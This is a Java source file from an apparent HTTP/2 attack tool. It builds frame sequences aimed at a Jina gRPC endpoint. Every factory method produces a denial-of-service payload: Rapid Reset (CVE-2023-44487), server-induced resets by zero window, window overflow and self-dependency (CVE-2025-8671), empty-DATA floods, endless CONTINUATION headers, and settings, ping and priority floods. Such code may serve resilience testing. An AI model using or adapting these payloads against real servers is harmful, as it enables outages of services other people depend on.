package dev.flow.hostile.attack;

import dev.flow.hostile.http2.Frame;
import dev.flow.hostile.http2.HeaderBlock;
import java.util.function.IntFunction;

/**
 * The frames of one HTTP/2 attack.
 *
 * @param first the frames that are sent once
 * @param next the frames of each turn, which counts from zero
 */
record FrameSource(byte[] first, IntFunction<byte[]> next) {

    private static final byte[] CALL = HeaderBlock.grpc("/jina.JinaSingleDataRequestRPC/process_single_data")
            .bytes();
    private static final int WINDOW_OVERFLOW = Integer.MAX_VALUE;

    /** Opens streams and never ends one. */
    static FrameSource openStreams() {
        return new FrameSource(new byte[0], (turn) -> open(turn).bytes());
    }

    /** Opens each stream and cancels it (CVE-2023-44487). */
    static FrameSource rapidReset() {
        return new FrameSource(new byte[0], (turn) -> Frame.join(open(turn), Frame.cancel(stream(turn))));
    }

    /** Opens each stream and makes the server reset it by a window update of zero (CVE-2025-8671). */
    static FrameSource resetByZeroWindow() {
        return new FrameSource(new byte[0], (turn) -> Frame.join(open(turn), Frame.windowUpdate(stream(turn), 0)));
    }

    /** Opens each stream and makes the server reset it by a window beyond 2^31-1 (CVE-2025-8671). */
    static FrameSource resetByWindowOverflow() {
        return new FrameSource(
                new byte[0], (turn) -> Frame.join(open(turn), Frame.windowUpdate(stream(turn), WINDOW_OVERFLOW)));
    }

    /** Opens each stream and makes the server reset it by a dependency on itself (CVE-2025-8671). */
    static FrameSource resetBySelfDependency() {
        return new FrameSource(
                new byte[0], (turn) -> Frame.join(open(turn), Frame.priority(stream(turn), stream(turn))));
    }

    static FrameSource settings() {
        return same(new byte[0], Frame.settings(4, 65_535));
    }

    static FrameSource pings() {
        return same(new byte[0], Frame.ping(7));
    }

    static FrameSource priorities() {
        return new FrameSource(
                new byte[0], (turn) -> Frame.priority(stream(turn % 1_000), 0).bytes());
    }

    /** Sends DATA frames without content on one open stream (CVE-2019-9518). */
    static FrameSource emptyData() {
        return same(open(0).bytes(), Frame.data(stream(0), new byte[0], false));
    }

    /** Sends headers that never end (CVE-2024-27316). */
    static FrameSource continuations() {
        byte[] more = HeaderBlock.get("/").with("x-more", "1".repeat(200)).bytes();
        return same(new Frame(Frame.HEADERS, 0, 1, CALL).bytes(), new Frame(Frame.CONTINUATION, 0, 1, more));
    }

    private static FrameSource same(byte[] first, Frame frame) {
        byte[] bytes = frame.bytes();
        return new FrameSource(first, (turn) -> bytes);
    }

    private static Frame open(int turn) {
        return Frame.headers(stream(turn), CALL);
    }

    private static int stream(int turn) {
        return 2 * turn + 1;
    }
}
